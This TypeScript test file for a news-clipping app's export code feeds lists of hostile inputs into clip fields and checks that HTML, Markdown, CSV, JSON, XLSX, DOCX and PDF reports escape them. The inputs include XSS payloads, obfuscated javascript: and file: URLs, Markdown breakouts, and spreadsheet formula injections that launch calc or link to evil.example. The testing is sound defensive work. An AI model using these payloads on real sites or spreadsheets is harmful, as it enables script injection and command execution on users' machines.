// Hostile content through a real library into every report format (issue 21, point 2). The probe's families of vectors
// are generated here (markup, event handlers, dangerous schemes with obfuscation, Markdown link and code breakouts,
// comment and CDATA breakouts, SVG, styles, spreadsheet formulas, bidi and line-break injection, over-long strings),
// put into every field a clip carries, and each format is read back the way its readers read it: HTML through a
// spec-following parser (jsdom), Markdown token by token, CSV through a CSV parser, XLSX and DOCX through their
// relationship parts, the PDF's link annotations through pdf.js. The addresses are also written into the library
// directly, as a library made before addresses were checked holds them; and the import paths are shown to keep only
// web addresses.
import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import { JSDOM } from 'jsdom';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AnnotationRecord, Article, ClipResult, ReportFile, TopicRecord } from '../../electron/api/types';
import { MAX_URL_LENGTH, safeWebUrl } from '../../electron/clipping/safe-url';
import { csvCell } from '../../electron/reports/formats/csv';
import { findChromium } from '../../electron/reports/formats/pdf';
import { testApp, type TestApp } from '../helpers/app';

// ---------------------------------------------------------------------------------------------------------------
// The vectors.

const PAYLOADS = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<iframe src="javascript:alert(1)"></iframe>'];

/** One dangerous scheme written the ways filters miss: case, leading space, a tab or line break inside, entities, NUL. */
function schemeVariants(scheme: string, body: string): string[] {
  const mixed = [...scheme].map((c, i) => (i % 2 ? c.toUpperCase() : c)).join('');
  const cut = Math.ceil(scheme.length / 2);
  return [
    `${scheme}:${body}`,
    `${scheme.toUpperCase()}:${body}`,
    `${mixed}:${body}`,
    ` ${scheme}:${body}`,
    `${scheme.slice(0, cut)}\t${scheme.slice(cut)}:${body}`,
    `${scheme.slice(0, cut)}\n${scheme.slice(cut)}:${body}`,
    `${scheme}&#58;${body}`,
    `${scheme}&colon;${body}`,
    `&#${scheme.charCodeAt(0)};${scheme.slice(1)}:${body}`,
    `\u0001${scheme}:${body}`,
    `<a href="${scheme}:${body}">click</a>`,
    `[click](${scheme}:${body})`,
  ];
}

/** Each payload bare, breaking out of a double- or single-quoted attribute, and out of a text element. */
const breakouts = (payload: string) => [payload, `"><${payload.slice(1)}`, `'>${payload}`, `</title>${payload}`, `</textarea>${payload}`];

const FAMILIES: Record<string, string[]> = {
  'script tags': [...breakouts('<script>alert(1)</script>'), '<SCRIPT SRC=//x.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script\n>alert(1)</script>'],
  'event-handler attributes': [
    ...breakouts('<img src=x onerror=alert(1)>'),
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '<body onload=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<a href=# onpointerenter=alert(1)>x</a>',
    '<img/src=x\nonerror=alert(1)>',
  ],
  'javascript: URLs': schemeVariants('javascript', 'alert(1)'),
  'vbscript: URLs': schemeVariants('vbscript', 'msgbox(1)'),
  'data: URLs': schemeVariants('data', 'text/html,<script>alert(1)</script>'),
  'file: URLs': [...schemeVariants('file', '///etc/passwd'), '\\\\evil.example\\share\\x.exe', 'smb://evil.example/x', 'ms-msdt:/id PCWDiagnostic'],
  'web addresses carrying markup': [
    'http://y.example/><img src=x onerror=alert(1)>',
    'https://y.example/"onmouseover="alert(1)',
    "https://y.example/'><script>alert(1)</script>",
    'http://y.example/)](javascript:alert(1))',
    'https://y.example/<svg/onload=alert(1)>',
    'https://y.example/a`b``c',
    'https://trusted.example@evil.example/',
    'http://y.example/\u202Egnp.exe',
    'http://y.example/a b',
    'https:javascript:alert(1)',
  ],
  'Markdown links and images': [
    '[click](javascript:alert(1))',
    '![x](javascript:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '<javascript:alert(1)>',
    '[x]: javascript:alert(1)',
    '[a][b]\n\n[b]: javascript:alert(1)',
    '[x](https://ok.example "t") ![i](http://t.example/p.png)',
    '[^1]: a footnote of its own',
    '[x]\n(javascript:alert(1))',
  ],
  'backtick breakouts': ['`', '``', 'a`b', '` <script>alert(1)</script> `', '```\n<script>alert(1)</script>\n```', '~~~\n<img src=x onerror=alert(1)>', '`` ` `` ``` `', 'tag`<img src=x onerror=alert(1)>`'],
  'HTML comment and CDATA breakouts': ['<!-- x --><script>alert(1)</script>', '--><script>alert(1)</script><!--', '<![CDATA[<script>alert(1)</script>]]>', ']]><script>alert(1)</script>', '<!DOCTYPE html><html>', '<?xml version="1.0"?><x/>', '<!--', '-->'],
  SVG: [...breakouts('<svg onload=alert(1)>'), '<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><animate onbegin=alert(1) attributeName=x>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  'style and expression': ['<style>body{background:url(javascript:alert(1))}</style>', '<div style="width:expression(alert(1))">', 'x" style="background:url(javascript:alert(1))', '</style><img src=x onerror=alert(1)>', '@import url(//evil.example/x.css);', '#ffe066;background:url(x)'],
  'frames, forms, meta and base': ['<iframe src="javascript:alert(1)"></iframe>', '<object data="data:text/html,x"></object>', '<embed src="javascript:alert(1)">', '<form action="javascript:alert(1)"><button>x</button></form>', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<base href="javascript:alert(1)//">'],
  'spreadsheet formulas': ['=HYPERLINK("http://evil.example","x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1', ' =1+1', '\uFF1D1+1', '"=1+1"', '=1+1\n=2+2'],
  'bidi and line-break injection': [
    '\u202Eevil\u202C',
    'file\u202Etxt.exe',
    '\u2067rtl isolate',
    'line\nbreak',
    'line\r\nCRLF',
    'line\rCR',
    'a\u2028b\u2029c',
    'a\u0085b',
    'Probe\n# Injected heading',
    'Probe\n- injected item\n1. ordered item',
    'Probe\n    indented code',
    'Probe\n> injected quote',
    'Probe\n---\nafter a rule',
    'Probe\n| a | b |\n|---|---|',
    'Probe\n=====',
    'Header: x\r\nSet-Cookie: y',
  ],
  'entities and encodings': ['&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;', '&#x3C;img src=x onerror=alert(1)&#x3E;', '%3Cscript%3Ealert(1)%3C/script%3E', '\\u003cscript\\u003e', '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E', 'nul\u0000byte'],
  'Markdown emphasis, tables and escapes': ['**bold** _it_ ~~del~~ ==mark==', '| cell | injection |', '\\', '\\<script>alert(1)</script>', '\\`', '*', '_', '#', '<https://ok.example>', 'www.example.com and a@b.example'],
  'over-long strings': ['A'.repeat(10_000), '<'.repeat(5_000), `http://y.example/${'a'.repeat(9_000)}`, `${'`'.repeat(300)}x`, `javascript:${'/'.repeat(9_000)}alert(1)`, PAYLOADS.join('').repeat(200)],
};

interface Vector {
  family: string;
  value: string;
}

/** Each vector alone, and every fourth one also between ordinary words (where a filter anchored at the start misses it). */
const VECTORS: Vector[] = Object.entries(FAMILIES).flatMap(([family, values]) => values.flatMap((value, i) => (i % 4 === 0 ? [{ family, value }, { family, value: `Note ${value} here` }] : [{ family, value }])));

/** The fields of a clip that every vector is put into. */
const FIELDS = ['title', 'outlet', 'byline', 'url', 'tag name', 'highlight note', 'highlight tags', 'highlighted text', 'statement text', 'speaker name', 'topic name'];

/** What a route's schema allows, the vector cut to fit (the probe did the same); blank ones get a word. */
function fit(value: string, max: number): string {
  const cut = value.trim().slice(0, max).trim();
  return cut === '' ? 'blank' : cut;
}

// ---------------------------------------------------------------------------------------------------------------
// The library.

const chromium = findChromium();
let app: TestApp;
const clips: Array<{ article: Article; vector: Vector; tag: string; topic: string }> = [];
const definition = (extra: Record<string, unknown> = {}) => ({
  title: fit(`Report <script>alert(1)</script> [x](javascript:alert(1)) \`\`${'`'}`, 300),
  organization: fit('"><img src=x onerror=alert(1)> =HYPERLINK("http://evil.example")', 300),
  author: fit('\u202Eevil\n# heading <!--', 200),
  template: 'coverage',
  selection: { query: null },
  options: { fullText: true, annotations: true, statements: true, charts: true, grouping: 'none' },
  ...extra,
});
const render = async (format: string, def: Record<string, unknown> = definition()) => Buffer.from((await app.call<ReportFile>('reports.render', { definition: def, format })).data, 'base64');

beforeAll(async () => {
  app = testApp();
  const setRaw = app.library.db.prepare('UPDATE articles SET url = ?, byline = ? WHERE id = ?');
  for (const [i, vector] of VECTORS.entries()) {
    const v = vector.value;
    const input = (body: string) => ({ text: `Probe ${i} opens here.\n\n${body}\n\nProbe ${i} closes here.`, title: fit(v, 1000), outlet: fit(v, 200), publishedAt: `2024-03-${String((i % 28) + 1).padStart(2, '0')}` });
    // A NUL in pasted text is refused as binary input: the text then goes in without it (the other fields keep it).
    const { article } = await app.call<ClipResult>('clips.fromText', input(v)).catch(() => app.call<ClipResult>('clips.fromText', input(v.replace(/\p{Cc}/gu, ''))));
    // A library made before addresses were checked: the address (and the byline, which no route edits) as they came.
    setRaw.run(v, v, article.id);
    const tag = fit(v, 80);
    await app.call('tags.apply', { targets: [{ kind: 'article', id: article.id }], add: [tag] });
    // A topic's name cannot hold “>” (it separates a topic from its subtopics): the rest of the vector goes in.
    const topicName = fit(`${i} ${v.replaceAll('>', ' ')}`, 200);
    const { topic } = await app.call<{ topic: TopicRecord }>('topics.create', { name: topicName });
    await app.call('topics.assign', { targets: [{ kind: 'article', id: article.id }], topicId: topic.id, status: 'confirmed' });
    // The vector's paragraph (as stored: the text is normalised) is both a statement and a highlight.
    const opens = article.text.indexOf('opens here.') + 'opens here.'.length;
    const closes = article.text.lastIndexOf(`Probe ${i} closes`);
    let start = opens;
    let end = closes;
    while (start < end && /\s/.test(article.text[start]!)) start++;
    while (end > start && /\s/.test(article.text[end - 1]!)) end--;
    if (end <= start) [start, end] = [0, opens];
    await app.call('statements.add', { articleId: article.id, start, end, speaker: fit(v, 300), kind: 'direct' });
    await app.call<AnnotationRecord>('annotations.create', { articleId: article.id, start, end, note: v.slice(0, 20_000), tags: [tag] });
    clips.push({ article, vector, tag, topic: topicName });
  }
  console.log(`export escaping: ${VECTORS.length} hostile vectors tried across ${FIELDS.length} fields and ${chromium ? 7 : 6} formats (${Object.keys(FAMILIES).length} families; the report's title, organization and author take a sample too)`);
}, 600_000);
afterAll(() => app?.library.close());

// ---------------------------------------------------------------------------------------------------------------
// Readers.

const isWeb = (href: string | null | undefined) => href !== null && href !== undefined && safeWebUrl(href) !== null && /^https?:\/\//.test(href);

// The elements and attributes the HTML report is made of; anything else in it came from the content.
const HTML_ELEMENTS = new Set(['html', 'head', 'meta', 'title', 'style', 'body', 'header', 'footer', 'section', 'article', 'div', 'span', 'h1', 'h2', 'h3', 'p', 'ul', 'ol', 'li', 'dl', 'dt', 'dd', 'b', 'em', 'br', 'sup', 'mark', 'a', 'figure', 'figcaption', 'svg', 'rect', 'text', 'line']);
const HTML_ATTRIBUTES = new Set(['lang', 'charset', 'http-equiv', 'name', 'content', 'class', 'dir', 'style', 'href', 'viewbox', 'viewBox', 'width', 'height', 'role', 'aria-label', 'xmlns', 'x', 'y', 'x1', 'y1', 'x2', 'y2', 'fill', 'stroke', 'stroke-width', 'font-size', 'font-family', 'text-anchor']);

/** Every way the HTML could run script or open something other than a web page, as a browser would parse it. */
function htmlProblems(html: string): string[] {
  const problems: string[] = [];
  const { document, NodeFilter } = new JSDOM(html).window;
  const walker = document.createTreeWalker(document, NodeFilter.SHOW_ELEMENT | NodeFilter.SHOW_COMMENT | NodeFilter.SHOW_PROCESSING_INSTRUCTION);
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    if (node.nodeType !== 1) {
      problems.push(`a ${node.nodeName} node: ${node.textContent?.slice(0, 60)}`);
      continue;
    }
    const element = node as Element;
    const name = element.localName;
    if (!HTML_ELEMENTS.has(name)) problems.push(`an element <${name}>`);
    for (const attr of Array.from(element.attributes)) {
      if (/^on/i.test(attr.name)) problems.push(`an event handler ${attr.name} on <${name}>`);
      else if (!HTML_ATTRIBUTES.has(attr.name)) problems.push(`an attribute ${attr.name} on <${name}>`);
      if (attr.name === 'href' && (name !== 'a' || !isWeb(attr.value))) problems.push(`a link to ${attr.value.slice(0, 80)}`);
      if (attr.name === 'style' && !/^background:#[0-9a-f]{3,6}$/i.test(attr.value)) problems.push(`a style ${attr.value.slice(0, 80)}`);
    }
  }
  if (document.querySelectorAll('style').length !== 1) problems.push('a second <style>');
  if (document.querySelectorAll('head > meta[http-equiv]').length !== 1) problems.push('another http-equiv');
  return problems;
}

// Bidi controls that open (embeddings, overrides, isolates) and that close them.
const opensBidi = (text: string) => (text.match(/[\u202A\u202B\u202D\u202E\u2066-\u2068]/g) ?? []).length;
const closesBidi = (text: string) => (text.match(/[\u202C\u2069]/g) ?? []).length;

/**
 * What a Markdown viewer would find in the report besides its own structure, read as CommonMark and GFM read it:
 * raw HTML, links and images, entities, code spans other than a tag's, block markers a vector put at a line's start.
 */
function markdownProblems(md: string, tagNames: Set<string>): string[] {
  const problems: string[] = [];
  if (/[\r\u0085\u2028\u2029]/.test(md)) problems.push('a line break other than \\n');
  for (const [n, line] of md.split('\n').entries()) {
    const where = `line ${n + 1}: ${line.slice(0, 80)}`;
    if (line === '<div dir="rtl">' || line === '</div>') continue;
    if (/^ {4}|^\t/.test(line)) problems.push(`indented code at ${where}`);
    if (/^(```|~~~)/.test(line)) problems.push(`a code fence at ${where}`);
    if (opensBidi(line) > closesBidi(line)) problems.push(`an open bidi control at ${where}`);
    for (let i = 0; i < line.length; i++) {
      const c = line[i]!;
      const rest = line.slice(i);
      if (c === '\\' && /^[!-/:-@[-`{-~]$/.test(line[i + 1] ?? '')) {
        i++;
        continue;
      }
      if (c === '`') {
        const fence = /^`+/.exec(rest)![0];
        const close = new RegExp(`(?<!\`)${fence}(?!\`)`, 'g');
        close.lastIndex = i + fence.length;
        const found = close.exec(line);
        if (!found) {
          problems.push(`an unmatched backtick run at ${where}`);
          i += fence.length - 1;
          continue;
        }
        let content = line.slice(i + fence.length, found.index);
        if (/^ .*[^ ].* $/.test(content)) content = content.slice(1, -1);
        if (!line.startsWith('Tags: ') || !tagNames.has(oneLine(content))) problems.push(`a code span “${content.slice(0, 40)}” at ${where}`);
        i = found.index + fence.length - 1;
        continue;
      }
      if (c === '<') {
        const autolink = /^<([A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*)>/.exec(rest);
        if (autolink && isWeb(autolink[1]) && !/[()]/.test(autolink[1]!)) {
          i += autolink[0].length - 1;
          continue;
        }
        problems.push(`raw “<” at ${where}`);
      }
      if (c === '&') problems.push(`an entity start at ${where}`);
      if (c === '[') {
        const footnote = /^\[\^\d+\]/.exec(rest);
        if (footnote) {
          i += footnote[0].length - 1;
          continue;
        }
        problems.push(`a link bracket at ${where}`);
      }
      if (c === ']') problems.push(`a closing bracket at ${where}`);
    }
  }
  return problems;
}

/** Text on one line, without the bidi closers a format may add at its end: what a Markdown line holds of a field. */
const oneLine = (text: string) => text.replace(/[\s\u0085]+/g, ' ').trim().replace(/[\u202C\u2069]+$/, '');

/** Markdown's text with its escapes undone (to compare with what was put in). */
const unescapeMarkdown = (text: string) => oneLine(text.replace(/\\([!-/:-@[-`{-~])/g, '$1'));

/** The relationship targets of an Office file's parts (every `_rels/*.rels`), read as XML. */
function externalTargets(buffer: Buffer): { targets: string[]; xml: Record<string, string> } {
  const files = unzipSync(new Uint8Array(buffer));
  const xml: Record<string, string> = {};
  const targets: string[] = [];
  for (const [name, bytes] of Object.entries(files)) {
    if (!/\.(xml|rels)$/.test(name)) continue;
    xml[name] = strFromU8(bytes);
    if (!name.endsWith('.rels')) continue;
    const { document } = new JSDOM(xml[name], { contentType: 'text/xml' }).window;
    for (const rel of Array.from(document.getElementsByTagName('Relationship'))) {
      if (rel.getAttribute('TargetMode') === 'External') targets.push(rel.getAttribute('Target') ?? '');
    }
  }
  return { targets, xml };
}

// ---------------------------------------------------------------------------------------------------------------

describe('safeWebUrl', () => {
  it('keeps well-formed http(s) addresses, normalised, without credentials', () => {
    expect(safeWebUrl('https://Example.COM/a b'.replace(' ', '%20'))).toBe('https://example.com/a%20b');
    expect(safeWebUrl('  http://example.com  ')).toBe('http://example.com/');
    expect(safeWebUrl('HTTPS://example.com/путь?q=<x>')).toBe('https://example.com/%D0%BF%D1%83%D1%82%D1%8C?q=%3Cx%3E');
    expect(safeWebUrl('https://user:secret@example.com/x')).toBe('https://example.com/x');
    expect(safeWebUrl('https://trusted.example@evil.example/')).toBe('https://evil.example/');
    expect(safeWebUrl('http://пример.рф/')).toBe('http://xn--e1afmkfd.xn--p1ai/');
    expect(safeWebUrl('/news/1', 'https://example.com/feed')).toBe('https://example.com/news/1');
    expect(safeWebUrl('//cdn.example/x', 'https://example.com/')).toBe('https://cdn.example/x');
  });

  it('refuses every other scheme, however it is written', () => {
    for (const scheme of ['javascript', 'vbscript', 'data', 'file']) {
      for (const variant of schemeVariants(scheme, 'x')) expect(safeWebUrl(variant), JSON.stringify(variant)).toBeNull();
      expect(safeWebUrl(`${scheme}:x`, 'https://example.com/')).toBeNull();
    }
    for (const other of ['mailto:a@b.example', 'ftp://example.com/', 'ws://example.com/', 'about:blank', 'chrome://settings', 'ms-msdt:/id x', '\\\\host\\share', 'example.com/x', 'https:example.com', 'https:/\\example.com', 'http://', 'https://[::1', null, undefined, '']) {
      expect(safeWebUrl(other), JSON.stringify(other)).toBeNull();
    }
    // A relative address against a base that is not a web address stays unresolved.
    expect(safeWebUrl('/x', 'file:///etc/')).toBeNull();
  });

  it('refuses control characters, whitespace and invisible format characters inside, and over-long addresses', () => {
    for (const inside of ['\u0000', '\u0001', '\t', '\n', '\r', ' ', '\u007F', '\u0085', '\u00A0', '\u2028', '\u200B', '\u202E', '\u2066', '\uFEFF']) {
      expect(safeWebUrl(`https://example.com/a${inside}b`), JSON.stringify(inside)).toBeNull();
    }
    expect(safeWebUrl('http://y.example/><img src=x onerror=alert(1)>')).toBeNull();
    const long = `https://example.com/${'a'.repeat(MAX_URL_LENGTH - 'https://example.com/'.length)}`;
    expect(safeWebUrl(long)).toBe(long);
    expect(safeWebUrl(`${long}a`)).toBeNull();
    // Percent-encoding can push an address over the limit: the result is measured too.
    expect(safeWebUrl(`https://example.com/${'ж'.repeat(3000)}`)).toBeNull();
  });
});

describe('only web addresses are stored', () => {
  // Each clips through the real extraction path, which a busy machine makes slow.
  const SLOW = 120_000;
  let fresh: TestApp;
  beforeAll(() => {
    fresh = testApp();
  }, SLOW);
  afterAll(() => fresh.library.close());
  const file = async (name: string, content: string | Buffer) => fresh.call<ClipResult[]>('clips.fromFile', { name, data: Buffer.from(content).toString('base64') });
  const urls = (results: ClipResult[]) => results.map((r) => r.article.url);

  it('from a CSV clip log', async () => {
    const csv = [
      'URL,Title,Outlet',
      'javascript:alert(1),A headline with a script address,Steppe Herald',
      '"http://y.example/><img src=x onerror=alert(1)>",A headline with markup in its address,Steppe Herald',
      'data:text/html;base64,PHNjcmlwdD4=,A headline with a data address,Steppe Herald',
      'https://steppe-herald.example/news/1,A headline with a good address,Steppe Herald',
    ].join('\n');
    expect(urls(await file('log.csv', csv))).toEqual([null, null, null, 'https://steppe-herald.example/news/1']);
  }, SLOW);

  it('from an Excel clip log, its hyperlinks included', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Log');
    sheet.addRow(['Title', 'Outlet']);
    sheet.addRow([{ text: 'A linked headline with markup behind it', hyperlink: 'http://y.example/"><svg onload=alert(1)>' }, 'Caspian Courier']);
    sheet.addRow([{ text: 'A linked headline to a file', hyperlink: 'file:///etc/passwd' }, 'Caspian Courier']);
    sheet.addRow([{ text: 'A linked headline to the web', hyperlink: 'https://caspian-courier.example/a' }, 'Caspian Courier']);
    const results = await file('log.xlsx', Buffer.from(await workbook.xlsx.writeBuffer()));
    expect(urls(results)).toEqual([null, null, 'https://caspian-courier.example/a']);
  }, SLOW);

  it('from an e-mail digest whose links are a script or redirect to markup', async () => {
    const hostile = encodeURIComponent('http://y.example/><img src=x onerror=alert(1)>');
    const eml = [
      'From: Alerts <alerts@alerts.example>',
      'Subject: Alert - corridor',
      'Date: Wed, 19 Feb 2025 07:00:00 +0000',
      'MIME-Version: 1.0',
      'Content-Type: text/html; charset="utf-8"',
      '',
      '<html><body><table>',
      `<tr><td><a href="https://alerts.example/url?url=${hostile}">A redirect to an address carrying markup</a><div>Steppe Herald</div><div>The first story's snippet.</div></td></tr>`,
      '<tr><td><a href="javascript:alert(1)">A story linked to a script address</a><div>Caspian Courier</div><div>The second story.</div></td></tr>',
      '<tr><td><a href="https://alerts.example/url?url=https://caspian-courier.example/b">A redirect to a good web address</a><div>Caspian Courier</div><div>The third story.</div></td></tr>',
      '<tr><td><a href="https://alerts.example/url?url=https://daily-ledger.example/c">Another redirect to a good address</a><div>Daily Ledger</div><div>The fourth story.</div></td></tr>',
      '</table></body></html>',
      '',
    ].join('\r\n');
    const stored = urls(await file('digest.eml', eml));
    for (const url of stored) expect(url === null || isWeb(url), String(url)).toBe(true);
    // The redirect to markup keeps the alert service's own address (its target stays encoded inside), the script link
    // is no story: no address carries markup or another scheme.
    expect(stored.join(' ')).not.toMatch(/[<>"]|javascript:/i);
    expect(stored).not.toContain(decodeURIComponent(hostile));
    expect(stored).toContain('https://caspian-courier.example/b');
  }, SLOW);

  it('from a feed whose items link to scripts', async () => {
    const item = (link: string, n: number) => `<item><title>Feed item number ${n} with a hostile link</title><link>${link}</link><description>Item ${n}'s summary.</description></item>`;
    const xml = `<?xml version="1.0"?><rss version="2.0"><channel><title>Hostile feed</title><link>javascript:alert(1)</link>${[
      item('javascript:alert(1)', 1),
      item('data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;', 2),
      item('http://y.example/&gt;&lt;img src=x onerror=alert(1)&gt;', 3),
      item('https://feed.example/4', 4),
    ].join('')}</channel></rss>`;
    expect(urls(await file('hostile.rss', xml))).toEqual([null, null, null, 'https://feed.example/4']);
  }, SLOW);

  it('from a page whose canonical address is not a web one, and a snapshot whose own address is a script', async () => {
    const page = (canonical: string, n: number) =>
      `<html><head><title>Page ${n}</title><link rel="canonical" href="${canonical}"></head><body><article><h1>Page number ${n} about the corridor</h1><p>${'The corridor carried more freight this year than in any year before it. '.repeat(8)}${n}</p></article></body></html>`;
    const [first] = await file('page.html', page('javascript:alert(1)', 1));
    expect([first!.article.url, first!.article.canonicalUrl]).toEqual([null, null]);
    const mhtml = ['Snapshot-Content-Location: javascript:alert(1)', 'Subject: A snapshot', 'MIME-Version: 1.0', 'Content-Type: multipart/related; type="text/html"; boundary="b"', '', '--b', 'Content-Type: text/html', 'Content-Location: javascript:alert(1)', '', page('http://y.example/ onerror=alert(1)', 2), '--b--', ''].join('\r\n');
    const [snapshot] = await file('page.mhtml', mhtml);
    expect([snapshot!.article.url, snapshot!.article.canonicalUrl]).toEqual([null, null]);
  }, SLOW);

  it('whatever an extractor hands the library: clipArticle is the last gate', () => {
    const { article } = fresh.services.library.clipArticle(
      { title: 'Handed over', titleProvisional: false, byline: null, outlet: null, publishedAt: null, language: 'en', text: 'A clip handed over with bad addresses.', html: null, url: 'javascript:alert(1)', canonicalUrl: 'data:text/html,x', dir: null, originalPublication: null, removed: [] },
      { kind: 'paste' },
    );
    expect([article.url, article.canonicalUrl]).toEqual([null, null]);
  }, SLOW);
});

describe('every format escapes for itself, whatever the library holds', () => {
  // The tags as the library holds them, written on one line as Markdown shows them.
  const tagNames = async () => new Set((await app.call<Array<{ name: string }>>('tags.list', {})).map((t) => oneLine(t.name)));

  it('HTML: no element, attribute, handler or link that the report does not make itself', async () => {
    for (const def of [definition(), definition({ options: { fullText: true, grouping: 'topic' } }), definition({ template: 'statements' }), definition({ template: 'dossier', options: { grouping: 'outlet' } }), definition({ template: 'digest' })]) {
      const html = (await render('html', def)).toString('utf8');
      expect(htmlProblems(html), String(def.template)).toEqual([]);
      expect(html).not.toMatch(/<script/i);
    }
    // Nothing was dropped on the way: each title is there as text, and web addresses are links.
    const { document } = new JSDOM((await render('html')).toString('utf8')).window;
    // (As a browser reads text: CR LF as LF, NUL dropped; the bidi closers the report adds at the end.)
    const asRead = (text: string | null) => (text ?? '').replace(/\r\n?/g, '\n').replaceAll('\u0000', '').replace(/[\u202C\u2069]+$/, '');
    const headings = new Set(Array.from(document.querySelectorAll('article.clip h3')).map((h) => asRead(h.textContent)));
    for (const { article } of clips) expect(headings.has(asRead(article.title)), article.title.slice(0, 60)).toBe(true);
    const links = Array.from(document.querySelectorAll('a[href]')).map((a) => a.getAttribute('href'));
    expect(links.length).toBeGreaterThan(0);
    expect(links.every(isWeb)).toBe(true);
  }, 120_000);

  it('Markdown: no raw HTML, link, image, entity, stray code span or injected block', async () => {
    for (const def of [definition(), definition({ options: { fullText: true, grouping: 'topic' } }), definition({ template: 'statements' }), definition({ template: 'dossier', options: { grouping: 'outlet' } })]) {
      const md = (await render('md', def)).toString('utf8');
      expect(markdownProblems(md, await tagNames()), String(def.template)).toEqual([]);
      const lines = md.split('\n');
      // The vectors' own lines never begin a line of the report with their block markers.
      for (const { vector } of clips) {
        for (const piece of vector.value.split(/\r\n?|\n|\u2028|\u2029|\u0085/).slice(1)) {
          const marker = piece.trim();
          if (/^[-#>|=+`~]|^\d+[.)]/.test(marker)) expect(lines, marker).not.toContain(marker);
        }
      }
    }
    // Escaped, not dropped: each clip's heading reads back as its title.
    const md = (await render('md')).toString('utf8');
    const headings = new Set(md.split('\n').filter((l) => l.startsWith('### ')).map((l) => unescapeMarkdown(l.slice(4))));
    for (const { article } of clips) expect(headings.has(oneLine(article.title)), article.title.slice(0, 60)).toBe(true);
  }, 120_000);

  it('CSV: no cell starts a formula', async () => {
    const csv = (await render('csv')).toString('utf8');
    const rows = parseCsv(csv, { bom: true }) as string[][];
    expect(rows.length).toBe(clips.length + 1);
    for (const row of rows) for (const cell of row) expect(cell, cell.slice(0, 60)).not.toMatch(/^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]|^\s+[=+\-@]/);
    // The apostrophe is the whole change: the text follows it unaltered.
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell(' =1+1')).toBe("' =1+1");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('=1,2')).toBe('"\'=1,2"');
  }, 120_000);

  it('JSON: addresses only when web ones, and nothing an HTML page would read as markup', async () => {
    const text = (await render('json')).toString('utf8');
    expect(text).not.toMatch(/[<>&\u2028\u2029]/);
    const json = JSON.parse(text) as { clips: Array<{ id: string; title: string; url: string | null; rejectedUrl?: string; annotations: Array<{ target: { source: string } }> }> };
    const byId = new Map(clips.map((c) => [c.article.id, c]));
    for (const clip of json.clips) {
      expect(clip.url === null || isWeb(clip.url), String(clip.url).slice(0, 60)).toBe(true);
      for (const a of clip.annotations) expect(isWeb(a.target.source) || a.target.source.startsWith('urn:verbatim:article:'), a.target.source.slice(0, 60)).toBe(true);
      const original = byId.get(clip.id)!;
      expect(clip.title).toBe(original.article.title);
      if (!clip.url) expect(clip.rejectedUrl).toBe(original.vector.value);
    }
  }, 120_000);

  it('XLSX: hyperlinks only to web addresses, no formulas', async () => {
    const { targets, xml } = externalTargets(await render('xlsx'));
    expect(targets.length).toBeGreaterThan(0);
    for (const target of targets) expect(isWeb(target), target.slice(0, 80)).toBe(true);
    for (const [name, part] of Object.entries(xml)) {
      expect(part, name).not.toMatch(/<f[\s>]/);
      expect(part, name).not.toMatch(/<(script|svg|img|iframe)/i);
    }
  }, 120_000);

  it('DOCX: hyperlinks only to web addresses, no field that links elsewhere', async () => {
    for (const def of [definition(), definition({ template: 'statements' })]) {
      const { targets, xml } = externalTargets(await render('docx', def));
      expect(targets.length).toBeGreaterThan(0);
      for (const target of targets) expect(isWeb(target), target.slice(0, 80)).toBe(true);
      for (const [name, part] of Object.entries(xml)) {
        expect(part, name).not.toMatch(/<(script|svg|img|iframe)/i);
        for (const field of part.match(/<w:instrText[^>]*>[^<]*/g) ?? []) expect(field, name).not.toMatch(/HYPERLINK/i);
      }
    }
  }, 120_000);

  it.skipIf(!chromium)(`PDF: link annotations only to web addresses${chromium ? '' : ' [skipped: no Chromium]'}`, async () => {
    const pdf = await render('pdf', definition({ options: { fullText: false, grouping: 'none' } }));
    const { getDocument } = await import('pdfjs-dist/legacy/build/pdf.mjs');
    const doc = await getDocument({ data: new Uint8Array(pdf), isEvalSupported: false, disableFontFace: true, useSystemFonts: false, verbosity: 0 }).promise;
    const links: string[] = [];
    try {
      for (let n = 1; n <= doc.numPages; n++) {
        for (const annotation of (await (await doc.getPage(n)).getAnnotations()) as Array<{ subtype: string; url?: string; unsafeUrl?: string; action?: string; actions?: unknown }>) {
          if (annotation.subtype !== 'Link') continue;
          expect(annotation.actions, 'a script action').toBeUndefined();
          const target = annotation.unsafeUrl ?? annotation.url;
          if (target !== undefined) links.push(target);
        }
      }
    } finally {
      await doc.destroy();
    }
    expect(links.length).toBeGreaterThan(0);
    for (const link of links) expect(isWeb(link), link.slice(0, 80)).toBe(true);
  }, 300_000);
});
